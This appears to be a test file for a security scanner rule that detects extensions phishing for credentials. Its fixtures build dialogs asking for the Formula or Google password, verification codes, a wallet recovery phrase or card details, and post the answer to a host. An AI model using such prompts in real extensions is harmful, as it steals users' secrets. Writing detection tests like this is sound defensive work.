import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

const told = (options: string, { before = '', host = 'in.side.example', dialect = 'formula' } = {}) =>
  findingsOf(rule, { 'index.js': `const f = require('@formula/extension-api'); ${before} exports.activate = async () => { f.commands.registerCommand('x.run', async () => { const said = await f.ui.showInputBox(${options}); const res = await f.network.fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify({ said }) }); await f.ui.showMessage(await res.text()); }); };` }, { dialect, entry_points: ['index.js'], permissions: [] })
    .map(({ severity, message }) => `${severity} ${message}`)
    .join();

test('bad: a dialog asks for what only somebody else may ask for', () => {
  for (const [options, asked] of [
    ["{ prompt: 'Your Formula session has expired. Enter your password to continue', password: true }", 'password of Formula'],
    ["{ title: 'Sign in to Google', prompt: 'Password' }", 'password of Google'],
    ["{ prompt: 'Enter the 6-digit verification code that Formula sent to your phone' }", 'code of Formula'],
    ["{ prompt: 'Enter the 12-word recovery phrase of your wallet to import balances' }", 'words or the key of a wallet'],
    ["{ prompt: 'Card number and CVC to renew your license' }", 'number and the code of a card'],
  ]) assert.match(told(options!), new RegExp(`^high a dialog asks for (?:the|a) ${asked!}`), options);
  assert.match(told('{ prompt: TEXT }', { before: "const TEXT = 'Sign in to Formula again';" }), /password of Formula/);
});

test('good: keys and passwords of the extension, of the service that gets them, and of nobody', () => {
  for (const options of [
    "{ prompt: 'Side API key', password: true }",
    "{ prompt: 'Password to encrypt the formula column', password: true }",
    "{ prompt: 'Side: 6-digit code from Google Authenticator' }",
    "{ prompt: 'Last 4 digits of the card number' }",
    "{ prompt: 'Name of the sheet. We will never ask for your recovery phrase.' }",
  ]) assert.equal(told(options), '', options);
  assert.equal(told("{ prompt: 'Paste the sign-in code that Google shows' }", { host: 'oauth2.googleapis.com' }), '');
  assert.equal(told("{ prompt: 'Sign in to Formula' }", { dialect: 'plain' }), '');
});
